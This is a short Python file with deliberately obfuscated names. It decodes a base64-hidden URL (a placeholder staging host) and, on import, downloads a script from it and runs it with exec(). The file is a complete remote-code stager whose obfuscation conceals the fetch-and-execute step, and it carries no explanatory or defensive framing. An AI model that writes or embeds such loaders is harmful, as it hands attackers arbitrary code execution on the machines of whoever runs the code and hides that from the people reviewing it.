import base64 as O0O0OO0O
import urllib.request as OO0O0O00

O00OO0 = "aHR0cHM6Ly9zdGFnZS5leGFtcGxlLmludmFsaWQvcC5weQ=="


class OOO0O0O0:
    def __init__(O0OO, O0O0):
        O0OO.O00O = O0O0

    def OO00OO(O0OO):
        O0O00O0O = OO0O0O00.urlopen(O0O0OO0O.b64decode(O0OO.O00O).decode())
        return O0O00O0O.read()


def O0OOO00O(OO0OO0):
    exec(OO0OO0.OO00OO())


O0OOO00O(OOO0O0O0(O00OO0))
